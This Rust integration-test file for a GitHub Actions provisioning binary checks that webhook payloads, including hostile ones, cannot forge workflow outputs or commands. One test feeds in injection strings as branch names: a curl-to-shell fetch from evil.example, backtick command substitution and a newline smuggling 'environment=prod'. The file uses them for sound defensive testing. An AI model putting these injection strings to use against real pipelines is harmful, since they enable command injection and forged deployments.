//! `idp-action` as a workflow runs it: the binary, temporary `GITHUB_OUTPUT` and
//! `GITHUB_STEP_SUMMARY` files, real GitHub payloads (`@octokit/webhooks-examples`), hostile
//! payloads, and the whole GitOps path on the local backend and on moto ([`gitops`]); the
//! tfvars contract shared with the CLI and Python ([`tfvars`]).
#![allow(
    clippy::disallowed_methods,
    reason = "tests read fixture files and the `CI` variable"
)]
#![allow(clippy::print_stderr, reason = "a skipped suite says so loudly")]

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use assert_cmd::Command;
use serde_json::{Value, json};

mod gitops;
mod tfvars;

/// The outputs `setup` may write; anything else in `GITHUB_OUTPUT` would be forged.
const SETUP_OUTPUTS: [&str; 32] = [
    "environment",
    "action",
    "deploy",
    "destroy",
    "sweep",
    "reason",
    "template",
    "provisioner",
    "region",
    "state_key",
    "trigger",
    "repository",
    "branch",
    "commit",
    "pr_number",
    "image_tag",
    "image",
    "build",
    "dockerfile",
    "build_context",
    "container_port",
    "health_check_path",
    "ttl",
    "cpu",
    "memory",
    "use_shared_networking",
    "state_bucket",
    "status",
    "expires_at",
    "endpoint",
    "tfvars_file",
    "invalid_config",
];

fn core_fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../idp-core/tests/fixtures/webhooks")
}

/// Where a run keeps its files, and which backend it uses.
struct Env {
    dir: tempfile::TempDir,
    vars: Vec<(String, String)>,
}

impl Env {
    fn local() -> Self {
        let dir = tempfile::tempdir().unwrap();
        let state = dir.path().join("state").display().to_string();
        Self {
            dir,
            vars: vec![
                ("IDP_BACKEND".into(), "local".into()),
                ("IDP_STATE_DIR".into(), state),
            ],
        }
    }

    fn path(&self) -> &Path {
        self.dir.path()
    }
}

/// One step's results.
#[derive(Debug)]
struct Run {
    code: i32,
    stdout: String,
    outputs_text: String,
    outputs: BTreeMap<String, String>,
    summary: String,
}

/// Parse `GITHUB_OUTPUT` the way the runner does: `name<<DELIM` heredocs and `name=value` lines.
/// Returns an error for a line that is neither, or an unterminated heredoc.
fn parse_outputs(text: &str) -> Result<Vec<(String, String)>, String> {
    let mut out = Vec::new();
    let mut lines = text.lines();
    while let Some(line) = lines.next() {
        if let Some((name, delim)) = line.split_once("<<") {
            let mut value = Vec::new();
            let mut closed = false;
            for l in lines.by_ref() {
                if l == delim {
                    closed = true;
                    break;
                }
                value.push(l);
            }
            if !closed {
                return Err(format!("unterminated heredoc for `{name}`"));
            }
            out.push((name.to_owned(), value.join("\n")));
        } else if let Some((name, value)) = line.split_once('=') {
            out.push((name.to_owned(), value.to_owned()));
        } else {
            return Err(format!("stray line `{line}`"));
        }
    }
    Ok(out)
}

fn step(env: &Env, args: &[&str], event: Option<(&str, &[u8])>, extra: &[(&str, &str)]) -> Run {
    let outputs = env.path().join(format!("output-{}", uuid_like()));
    let summary = env.path().join(format!("summary-{}", uuid_like()));
    let mut cmd = Command::cargo_bin("idp-action").unwrap();
    cmd.current_dir(env.path())
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("GITHUB_OUTPUT", &outputs)
        .env("GITHUB_STEP_SUMMARY", &summary)
        .env("RUNNER_TEMP", env.path().join("runner-temp"))
        .env("GITHUB_ACTOR", "octocat");
    for (k, v) in &env.vars {
        cmd.env(k, v);
    }
    for (k, v) in extra {
        cmd.env(k, v);
    }
    if let Some((name, payload)) = event {
        let path = env.path().join(format!("event-{}.json", uuid_like()));
        fs_err::write(&path, payload).unwrap();
        cmd.env("GITHUB_EVENT_NAME", name)
            .env("GITHUB_EVENT_PATH", &path);
    }
    let out = cmd.args(args).output().unwrap();
    let outputs_text = fs_err::read_to_string(&outputs).unwrap_or_default();
    let parsed = parse_outputs(&outputs_text).unwrap_or_else(|e| panic!("{e} in\n{outputs_text}"));
    let mut map = BTreeMap::new();
    for (name, value) in parsed {
        assert!(
            map.insert(name.clone(), value).is_none(),
            "output `{name}` written twice:\n{outputs_text}"
        );
    }
    Run {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
        outputs_text,
        outputs: map,
        summary: fs_err::read_to_string(&summary).unwrap_or_default(),
    }
}

fn uuid_like() -> String {
    use std::sync::atomic::{AtomicUsize, Ordering};
    static N: AtomicUsize = AtomicUsize::new(0);
    N.fetch_add(1, Ordering::Relaxed).to_string()
}

/// Filters for snapshots: the random delimiter, temporary paths and times.
fn filters(env: &Env) -> Vec<(String, String)> {
    vec![
        (
            r"ghadelimiter_[0-9a-f-]{36}".to_owned(),
            "[DELIMITER]".to_owned(),
        ),
        (
            regex::escape(&env.path().display().to_string()),
            "[TMP]".to_owned(),
        ),
        (
            r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ".to_owned(),
            "[TIME]".to_owned(),
        ),
        (
            r"\d{4}-\d\d-\d\d \d\d:\d\d UTC".to_owned(),
            "[TIME]".to_owned(),
        ),
    ]
}

fn assert_no_forged_outputs(run: &Run) {
    for name in run.outputs.keys() {
        assert!(
            SETUP_OUTPUTS.contains(&name.as_str()),
            "unexpected output `{name}`:\n{}",
            run.outputs_text
        );
    }
}

#[test]
fn setup_on_every_push_delete_and_pull_request_example_writes_only_its_outputs() {
    let Some(examples) = idp_test_support::webhook_examples::all() else {
        return;
    };
    let env = Env::local();
    let mut seen = Vec::new();
    for (event, payloads) in examples
        .iter()
        .filter(|(n, _)| matches!(n.as_str(), "push" | "delete" | "pull_request"))
    {
        for (i, payload) in payloads.iter().enumerate() {
            let bytes = serde_json::to_vec(payload).unwrap();
            let run = step(&env, &["setup"], Some((event, &bytes)), &[]);
            assert_no_forged_outputs(&run);
            assert!(
                matches!(run.code, 0 | 2 | 4),
                "{event}[{i}] exited {}: {}",
                run.code,
                run.stdout
            );
            seen.push(json!({
                "event": format!("{event}[{i}] {}", payload.get("action").and_then(Value::as_str).unwrap_or("")),
                "code": run.code,
                "action": run.outputs.get("action"),
                "environment": run.outputs.get("environment"),
            }));
        }
    }
    assert_eq!(
        seen.len(),
        7 + 4 + 29,
        "the package's push, delete and pull_request examples"
    );
    insta::assert_json_snapshot!("webhook_examples", seen);
}

#[test]
fn hostile_payloads_cannot_forge_outputs_or_commands() {
    let env = Env::local();
    let mut files: Vec<PathBuf> = fs_err::read_dir(core_fixtures().join("hostile"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    files.sort();
    assert!(files.len() >= 10);
    for file in files {
        let name = file.file_name().unwrap().to_string_lossy().into_owned();
        let event = name.split('.').next().unwrap().to_owned();
        let run = step(
            &env,
            &["setup"],
            Some((&event, &fs_err::read(&file).unwrap())),
            &[],
        );
        assert_no_forged_outputs(&run);
        // Every stdout line is a workflow command or log text that starts with `::` only when
        // idp wrote it: a hostile value never starts a line.
        for line in run.stdout.lines() {
            assert!(
                line.starts_with("::error ")
                    || line.starts_with("::warning ")
                    || line.starts_with('{')
                    || !line.starts_with("::"),
                "{name}: {line}"
            );
        }
        let owned = filters(&env);
        let filters: Vec<(&str, &str)> = owned
            .iter()
            .map(|(a, b)| (a.as_str(), b.as_str()))
            .collect();
        insta::with_settings!({ filters => filters, snapshot_suffix => name.clone() }, {
            insta::assert_snapshot!("hostile", format!(
                "exit code: {}\n--- stdout\n{}--- GITHUB_OUTPUT\n{}--- GITHUB_STEP_SUMMARY\n{}",
                run.code, run.stdout, run.outputs_text, run.summary
            ));
        });
    }
}

fn push_payload(branch: &str, sha: &str) -> Vec<u8> {
    let mut v: Value = serde_json::from_slice(
        &fs_err::read(core_fixtures().join("push.feature-branch.json")).unwrap(),
    )
    .unwrap();
    v["ref"] = json!(format!("refs/heads/{branch}"));
    v["after"] = json!(sha);
    serde_json::to_vec(&v).unwrap()
}

fn pr_closed_payload(branch: &str) -> Vec<u8> {
    let mut v: Value = serde_json::from_slice(
        &fs_err::read(core_fixtures().join("pull_request.closed.merged.json")).unwrap(),
    )
    .unwrap();
    v["pull_request"]["head"]["ref"] = json!(branch);
    serde_json::to_vec(&v).unwrap()
}

#[test]
fn hostile_branch_names_stay_data_in_outputs_and_tfvars() {
    let env = Env::local();
    for branch in [
        "feature/$(curl${IFS}evil.example|sh)",
        "feature/`id`",
        "feature/\"quoted\"'single'",
        "feature/ghadelimiter_x",
        &format!("feature/{}", "a".repeat(240)),
    ] {
        let run = step(
            &env,
            &["setup"],
            Some((
                "push",
                &push_payload(branch, "6113728f27ae82c7b1a177c8d03f9e96e0adf246"),
            )),
            &[],
        );
        assert_eq!(run.code, 0, "{branch}: {}", run.stdout);
        assert_no_forged_outputs(&run);
        assert_eq!(run.outputs["branch"], branch);
        assert_eq!(run.outputs["action"], "provision");
        let envname = &run.outputs["environment"];
        assert!(
            envname
                .bytes()
                .all(|b| b.is_ascii_lowercase() || b.is_ascii_digit() || b == b'-'),
            "{envname}"
        );
        let tfvars: Value =
            serde_json::from_slice(&fs_err::read(&run.outputs["tfvars_file"]).unwrap()).unwrap();
        assert_eq!(tfvars["environment_name"], json!(envname));
    }
    // A newline in the branch is refused like git refuses it.
    let run = step(
        &env,
        &["setup"],
        Some((
            "push",
            &push_payload(
                "feature/x\nenvironment=prod",
                "6113728f27ae82c7b1a177c8d03f9e96e0adf246",
            ),
        )),
        &[],
    );
    assert_eq!(run.code, 2);
    assert!(run.outputs.is_empty(), "{}", run.outputs_text);
}

#[test]
fn an_invalid_config_becomes_annotations_and_blocks_a_deploy_but_not_a_destroy() {
    let env = Env::local();
    fs_err::create_dir_all(env.path().join(".idp")).unwrap();
    fs_err::write(
        env.path().join(".idp/config.yml"),
        "template: api-servce\ncontainer_prot: 80\n",
    )
    .unwrap();
    let run = step(
        &env,
        &["setup"],
        Some((
            "push",
            &push_payload("feature/x", "6113728f27ae82c7b1a177c8d03f9e96e0adf246"),
        )),
        &[],
    );
    assert_eq!(run.code, 2);
    let lines: Vec<&str> = run.stdout.lines().collect();
    assert!(
        lines[0]
            .starts_with("::error file=.idp/config.yml,line=1,col=1,title=invalid idp config::"),
        "{}",
        run.stdout
    );
    assert!(
        lines[1].starts_with("::error file=.idp/config.yml,line=2,col=1,"),
        "{}",
        run.stdout
    );
    let run = step(
        &env,
        &["setup"],
        Some(("pull_request", &pr_closed_payload("feature/x"))),
        &[],
    );
    assert_eq!(run.code, 0, "{}", run.stdout);
    assert!(
        run.stdout
            .starts_with("::warning file=.idp/config.yml,line=1"),
        "{}",
        run.stdout
    );
}

/// An AWS environment on moto with its own bucket, table and image repository (all named
/// `{prefix}-{pid}`, returned); `None` (with a loud line) when `IDP_TEST_AWS_ENDPOINT` is unset
/// outside CI. In CI a missing endpoint fails the test.
fn moto_env(prefix: &str) -> Option<(Env, String)> {
    let Some(endpoint) = std::env::var("IDP_TEST_AWS_ENDPOINT")
        .ok()
        .filter(|e| !e.is_empty())
    else {
        assert!(
            std::env::var_os("CI").is_none(),
            "IDP_TEST_AWS_ENDPOINT is not set but CI is: start moto first"
        );
        eprintln!(
            "!!!!! SKIPPED: the moto tests need IDP_TEST_AWS_ENDPOINT (see .ci/moto.sh) !!!!!"
        );
        return None;
    };
    let id = format!("{prefix}-{}", std::process::id());
    let rt = tokio::runtime::Runtime::new().unwrap();
    rt.block_on(async {
        let sdk = aws_config::defaults(aws_config::BehaviorVersion::latest())
            .region(aws_config::Region::new("us-east-1"))
            .endpoint_url(&endpoint)
            .test_credentials()
            .load()
            .await;
        let s3 = aws_sdk_s3::Client::from_conf(
            aws_sdk_s3::config::Builder::from(&sdk)
                .force_path_style(true)
                .build(),
        );
        s3.create_bucket().bucket(&id).send().await.unwrap();
        idp_test_support::moto::create_lock_table(&aws_sdk_dynamodb::Client::new(&sdk), &id).await;
    });
    let mut env = Env::local();
    env.vars = vec![
        ("IDP_BACKEND".into(), "aws".into()),
        ("IDP_REGION".into(), "us-east-1".into()),
        ("IDP_STATE_BUCKET".into(), id.clone()),
        ("IDP_LOCK_TABLE".into(), id.clone()),
        ("IDP_ECR_REPOSITORY".into(), id.clone()),
        ("IDP_ENDPOINT_URL".into(), endpoint),
        ("AWS_ACCESS_KEY_ID".into(), "test".into()),
        ("AWS_SECRET_ACCESS_KEY".into(), "test".into()),
    ];
    Some((env, id))
}
